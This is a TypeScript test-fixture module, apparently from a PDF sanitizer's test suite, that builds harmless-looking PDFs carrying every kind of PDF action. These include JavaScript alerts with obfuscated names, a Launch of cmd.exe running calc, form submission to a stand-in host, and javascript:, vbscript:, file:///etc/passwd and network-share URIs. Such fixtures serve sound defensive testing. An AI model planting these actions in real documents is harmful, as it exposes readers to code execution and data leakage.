import type { HostilePdf } from "./hostile-pdfs.ts";
import { classicLayout } from "./pdf-corpus/classic-layout.ts";
import type { DraftMaker } from "./pdf-corpus/pdf-draft.ts";
import { A4, framed, specialDocument } from "./pdf-corpus/special-page.ts";
import { streamLayout } from "./pdf-corpus/stream-layouts.ts";

/** Everything PDF lets happen by itself or at a click, wherever it may be hung up. */
const ACTIONS: Readonly<Record<string, string>> = {
  javascript: "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
  "javascript-in-hex-name": "<< /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>",
  launch: "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>",
  "submit-form": "<< /S /SubmitForm /F << /FS /URL /F (https://jahat.example/) >> /Flags 4 >>",
  "reset-form": "<< /S /ResetForm >>",
  "import-data": "<< /S /ImportData /F (data.fdf) >>",
  "go-to-remote": "<< /S /GoToR /F (\\\\\\\\server\\\\berbagi\\\\a.pdf) /D [0 /Fit] /NewWindow true >>",
  "go-to-embedded": "<< /S /GoToE /T << /R /C /N (isi.pdf) >> /D [0 /Fit] >>",
  thread: "<< /S /Thread /F (lain.pdf) /D 0 >>",
  "named-print": "<< /S /Named /N /Print >>",
  hide: "<< /S /Hide /T (kolom) /H true >>",
  "set-layers": "<< /S /SetOCGState /State [/Toggle] >>",
  rendition:
    "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (https://jahat.example/a.mp4) >> >> >> /JS (1) >>",
  movie: "<< /S /Movie /T (film) /Operation /Play >>",
  transition: "<< /S /Trans /Trans << /S /Fly >> >>",
  "three-dimensions": "<< /S /GoTo3DView /TA null /V /F >>",
  "rich-media": "<< /S /RichMediaExecute /TA null /CMD << /C (jalan) >> >>",
  "uri-javascript": "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
  "uri-javascript-spaced": "<< /S /URI /URI ( \\tJaVa\\nScRiPt:alert\\(1\\)) >>",
  "uri-file": "<< /S /URI /URI (file:///etc/passwd) >>",
  "uri-data": "<< /S /URI /URI (data:text/html;base64,PHNjcmlwdD4=) >>",
  "uri-network-share": "<< /S /URI /URI (\\\\\\\\10.0.0.1\\\\bagi\\\\a.exe) >>",
  "uri-vbscript": "<< /S /URI /URI (vbscript:msgbox) >>",
  "uri-utf16": "<< /S /URI /URI <feff006a006100760061007300630072006900700074003a0031> >>",
  "uri-map": "<< /S /URI /URI (search-ms:query=x) /IsMap true >>",
  chained:
    "<< /S /GoTo /D [0 /Fit] /Next [<< /S /URI /URI (https://ok.example/) /Next << /S /JavaScript /JS (1) >> >>] >>",
  unknown: "<< /S /JalankanApaSaja /F (a.exe) >>",
};

export function hostilePdfsActions(): readonly HostilePdf[] {
  return Object.entries(ACTIONS).flatMap(([name, action]) => [
    hostile(`link-${name}`, (maker) => ({
      page: `/Annots [${maker.add(`<< /Type /Annot /Subtype /Link /Rect [50 600 300 640] /A ${action} >>`)} 0 R]`,
    })),
    hostile(`open-${name}`, (maker) => ({
      catalog: `/OpenAction ${maker.add(action)} 0 R`,
      page: `/AA << /O ${action} /C ${action} >>`,
    })),
    hostile(`events-${name}`, (maker) => ({
      page: `/Annots [${maker.add(widget(`/AA << /E ${action} /X ${action} /U ${action} /K ${action} /PO ${action} /PV ${action} >> /A ${action}`))} 0 R]`,
      catalog: `/AA << /WC ${action} /WS ${action} /DS ${action} /WP ${action} /DP ${action} >>`,
    })),
  ]);
}

interface HostileEntries {
  readonly catalog?: string;
  readonly page?: string;
  readonly resources?: string;
  readonly content?: string;
}

/** A page that shows something harmless, with something else hung up on it. */
export function hostile(
  name: string,
  build: (maker: DraftMaker) => HostileEntries,
  ends: HostilePdf["ends"] = "shown",
): HostilePdf {
  const draft = () =>
    specialDocument((maker) => {
      const { catalog = "", page = "", resources = "", content = "" } = build(maker);
      return {
        catalog,
        pages: [{ entries: `${A4} ${page}`, resources, content: `${framed("Surat biasa")}${content}` }],
      };
    });
  const isPacked = name.length % 2 === 0;
  return {
    name,
    ends,
    make: () =>
      isPacked ? streamLayout(draft(), { perObjectStream: 50, predicted: true }) : classicLayout(draft()),
  };
}

export function widget(entries: string): string {
  return `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (tombol) /F 4 /Rect [50 500 200 540] ${entries} >>`;
}
